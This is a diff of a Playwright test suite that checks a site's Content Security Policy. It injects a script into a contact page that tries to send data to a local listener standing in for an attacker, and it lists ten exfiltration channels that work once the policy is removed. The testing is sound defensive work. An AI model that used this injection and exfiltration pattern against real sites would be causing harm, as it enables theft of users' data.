@@ -232,24 +232,39 @@ test.describe("a script that was smuggled into a page", () => {
   test.use({ expectedErrors: [/./] });
 
   let far: Listener;
-  test.beforeAll(async () => {
+  test.beforeEach(async () => {
     far = await startListener();
   });
-  test.afterAll(() => far.close());
+  test.afterEach(() => far.close());
 
-  test("runs, and has nowhere to send anything", async ({ page, request }) => {
+  /** Puts the script into the contact page, whose headers `change` may change. */
+  async function smuggleIn(page: Page, change: (headers: Record<string, string>) => Record<string, string>) {
     await page.route("/contact", async (route) => {
       const answer = await route.fetch();
-      const attack = `<script>(${sendAnywhere.toString()})(${JSON.stringify(far.origin)}); fetch("/api/menu").then(() => (window.ran = true))</script>`;
-      await route.fulfill({ response: answer, body: (await answer.text()).replace("</body>", `${attack}</body>`) });
+      const attack = `<script>(${sendAnywhere.toString()})(${JSON.stringify(far.origin)}); window.ran = true</script>`;
+      const body = (await answer.text()).replace("</body>", `${attack}</body>`);
+      await route.fulfill({ response: answer, headers: change(answer.headers()), body });
     });
     // A page that is refused so much may never be told that it has loaded.
     await page.goto("/contact", { waitUntil: "commit" });
+  }
+
+  test("runs, and has nowhere to send anything", async ({ page, context, request }) => {
+    // Else the browser itself would keep the page from another address of this machine.
+    await context.grantPermissions(["local-network-access"]);
+    await smuggleIn(page, (headers) => headers);
     await expect.poll(() => page.evaluate(() => "ran" in window)).toBe(true);
-    expect(far.asked).toEqual([]);
-    // The listener does hear what reaches it.
+    // What was sent before has arrived by then.
+    await page.evaluate(() => fetch("/api/health"));
     await request.get(`${far.origin}/control`);
     expect(far.asked).toEqual(["/control"]);
+  });
+
+  test("would have sent it in many ways without the policy", async ({ page, context }) => {
+    await context.grantPermissions(["local-network-access"]);
+    await smuggleIn(page, ({ "content-security-policy": _policy, ...others }) => others);
+    const ways = ["/fetch", "/beacon", "/xhr", "/socket", "/events", "/img", "/style", "/font", "/script.js", "/form"];
+    await expect.poll(() => ways.filter((way) => !far.asked.includes(way))).toEqual([]);
   });
 
   test("cannot make text into tags or code, nor take another's word for it", async ({ page }) => {
